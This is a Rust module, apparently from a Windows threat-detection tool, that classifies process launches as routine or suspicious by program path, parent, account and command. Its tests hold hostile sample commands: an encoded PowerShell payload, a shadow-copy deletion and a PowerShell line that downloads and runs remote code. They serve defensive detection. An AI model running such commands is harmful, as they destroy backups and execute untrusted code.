//! Of what making the start of a process is: whether recurrence alone may excuse it.
//!
//! That a thing happens every day on many machines excuses it only if nobody could have made it happen from outside: an
//! installed program starts an installed program for a service account, and its command neither hides anything nor does
//! what harm would need. Through shells, documents and remote management anybody makes anything happen.

use super::command::{self, Capability};
use super::fingerprints::ProcessRun;
use super::paths::{self, PathClass};
use super::{programs, template};

/// Accounts under which services run.
#[must_use]
pub fn is_service_account(user: &str) -> bool {
    let user = user.to_lowercase();
    ["\\system", "\\local service", "\\network service"].iter().any(|name| user.ends_with(name))
        || user.starts_with("iis apppool\\")
        || user.starts_with("nt service\\")
}

fn is_installed(path: &str) -> bool {
    matches!(paths::class(path), PathClass::System | PathClass::ProgramFiles)
}

/// The program is installed, and its command does nothing that harm would need. That it is started again is what agents
/// and updaters see to; what it then runs stands in the command.
#[must_use]
pub fn is_plain(run: ProcessRun<'_>) -> bool {
    let reading = command::read(run.command);
    let harmless = |capability: &Capability| *capability == Capability::Persistence;
    is_installed(run.image) && reading.capabilities.iter().all(harmless) && reading.native_calls == 0
}

/// Something is encoded in the command. Another payload has the same template then: only the very same command recurs.
#[must_use]
pub fn is_encoded(command: &str) -> bool {
    command::read(command).depth > 1 || template::command(command).contains(template::ENCODED)
}

/// See the module.
#[must_use]
pub fn is_known(run: ProcessRun<'_>) -> bool {
    let parent = run.parent;
    let open = programs::is_shell(parent)
        || programs::is_proxy(parent)
        || programs::is_reader(parent)
        || programs::is_browser(parent)
        || programs::is_remote_hand(parent)
        || programs::is_server(parent)
        || programs::is_runtime(parent);
    is_plain(run) && is_installed(parent) && !open && is_service_account(run.user)
}

/// Windows' own programs, installed ones and Defender's, where only installers write. Directly in the Windows folder lies
/// what remote execution drops.
fn is_placed(path: &str) -> bool {
    let defender = "c:\\programdata\\microsoft\\windows defender\\platform\\";
    is_installed(path)
        || paths::class(path) == PathClass::Windows && path.matches('\\').count() > 2
        || path.to_lowercase().starts_with(defender) && !path.contains("..")
}

/// What services and tasks start all day: a program where only installers write, which runs no other code on somebody's
/// behalf, by a command that does nothing that harm would need.
#[must_use]
pub fn is_everyday(run: ProcessRun<'_>) -> bool {
    let reading = command::read(run.command);
    let open = programs::is_shell(run.image) || programs::is_proxy(run.image) || programs::is_runtime(run.image);
    is_placed(run.image)
        && !open
        && reading.native_calls == 0
        && reading.capabilities.iter().all(|capability| *capability == Capability::Persistence)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_an_installed_programs_plain_command_for_a_service_is_of_known_making() {
        let sound = ProcessRun {
            image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            command: "powershell.exe -NoProfile -File \"C:\\Program Files\\Vendor\\check.ps1\"",
            user: "NT AUTHORITY\\SYSTEM",
            parent: "C:\\Program Files\\Vendor\\Agent.exe",
        };
        assert!(is_known(sound));
        for other in [
            ProcessRun { parent: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", ..sound },
            ProcessRun { parent: "C:\\Windows\\System32\\cmd.exe", ..sound },
            ProcessRun { parent: "C:\\Users\\a\\Agent.exe", ..sound },
            ProcessRun { parent: "", ..sound },
            ProcessRun { user: "CORP\\a.user", ..sound },
            ProcessRun { image: "C:\\ProgramData\\a.exe", ..sound },
            ProcessRun { command: "powershell.exe -enc SQBFAFgAIAAoAGcAYwAgAGEAKQA7ACAAaQBlAHgAIABiAA==", ..sound },
            ProcessRun { command: "vssadmin delete shadows /all", ..sound },
            ProcessRun { command: "powershell.exe iex (irm https://files.example/a)", ..sound },
        ] {
            assert!(!is_known(other), "{other:?}");
        }
    }

    #[test]
    fn what_is_encoded_is_told() {
        assert!(is_encoded("powershell.exe -enc JAB2ACAAPQAgAEcAZQB0AC0ASABvAHQARgBpAHgA"));
        assert!(!is_encoded("powershell.exe -File C:\\a.ps1"));
    }

    #[test]
    fn what_services_start_all_day_runs_nobody_elses_code() {
        let sound = ProcessRun {
            image: "C:\\Windows\\System32\\taskhostw.exe",
            command: "taskhostw.exe",
            user: "",
            parent: "",
        };
        assert!(is_everyday(sound));
        for image in [
            "C:\\Users\\Public\\a.exe",
            "C:\\Windows\\Temp\\a.exe",
            "C:\\Windows\\a.exe",
            "C:\\ProgramData\\Vendor\\a.exe",
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\System32\\rundll32.exe",
        ] {
            assert!(!is_everyday(ProcessRun { image, ..sound }), "{image}");
        }
    }
}
